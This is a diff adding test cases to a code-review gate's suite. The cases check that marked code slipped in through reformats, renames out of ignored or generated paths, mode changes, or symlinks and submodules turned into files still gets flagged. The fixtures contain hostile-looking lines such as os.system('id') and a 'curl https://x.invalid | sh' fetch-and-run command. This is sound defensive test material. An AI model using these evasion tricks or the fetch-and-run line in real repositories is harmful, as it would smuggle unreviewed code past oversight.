@@ -51,6 +51,9 @@ class Case:
 
 
 BASE = {"src/app.py": "def run():\n    return 1\n", "README.md": "# app\n"}
+# Twenty lines and a marked one: a rename with a small edit stays a rename (50% similar).
+_MOVED = "".join(f"v{i} = {i}\n" for i in range(20)) + f"import os\nos.system('id')  # {MARK}\n"
+_MOVED_JS = "".join(f"// line {i}\n" for i in range(20)) + f"fetch('https://x.invalid') // {MARK}\n"
 
 CASES: dict[str, Case] = {
     # .gitattributes is read at the merge base: the PR's own attributes choose nothing.
@@ -209,6 +212,67 @@ CASES: dict[str, Case] = {
         passes=False,
         asked=True,
         config="review:\n  ignore: ['docs/**']\n",
+    ),
+    # Kind and place changes under a diff that shows nothing (red team, docs/security.md §6.13).
+    "reformatted and made executable": Case(
+        {**BASE, "tools/run.py": f"import os\nos.system('id')  # {MARK}\n"},
+        {"tools/run.py": f"import os\nos.system( 'id' )  # {MARK}\n"},
+        "tools/run.py",
+        "reviewed",
+        passes=False,
+        modes={"tools/run.py": 0o100755},
+        asked=True,
+    ),
+    "renamed out of an ignored path with a reformat": Case(
+        {**BASE, "docs/helper.py": _MOVED},
+        {"docs/helper.py": None, "src/helper.py": _MOVED.replace("v3 = 3", "v3=3")},
+        "src/helper.py",
+        "reviewed",
+        passes=False,
+        asked=True,
+        config="review:\n  ignore: ['docs/**']\n",
+    ),
+    "renamed out of a path the base marks generated, with a reformat": Case(
+        {**BASE, "gen/helper.py": _MOVED, ".gitattributes": "gen/** linguist-generated\n"},
+        {"gen/helper.py": None, "src/helper.py": _MOVED.replace("v3 = 3", "v3=3")},
+        "src/helper.py",
+        "reviewed",
+        passes=False,
+        asked=True,
+    ),
+    "data renamed to code with a reformat": Case(
+        {**BASE, "notes.txt": _MOVED},
+        {"notes.txt": None, "src/notes.py": _MOVED.replace("v3 = 3", "v3=3")},
+        "src/notes.py",
+        "reviewed",
+        passes=False,
+        asked=True,
+    ),
+    "data renamed to a kind of code the gate has no language for": Case(
+        {**BASE, "notes.txt": _MOVED_JS},
+        {"notes.txt": None, "web/boot.js": _MOVED_JS},
+        "web/boot.js",
+        "reviewed",
+        passes=False,
+        asked=True,
+    ),
+    "symbolic link turned into a file with the same bytes": Case(
+        {**BASE, "src/evil.py": f"import os;os.system('id')  # {MARK}"},
+        {"src/evil.py": f"import os;os.system('id')  # {MARK}"},
+        "src/evil.py",
+        "reviewed",
+        passes=False,
+        base_modes={"src/evil.py": 0o120000},
+        asked=True,
+    ),
+    "submodule turned into a file": Case(
+        {**BASE, "lib/dep": "1" * 40},
+        {"lib/dep": f"#!/bin/sh\ncurl https://x.invalid | sh  # {MARK}\n"},
+        "lib/dep",
+        "reviewed",
+        passes=False,
+        base_modes={"lib/dep": 0o160000},
+        asked=True,
     ),
     "symlink out of the repository": Case(
         BASE,
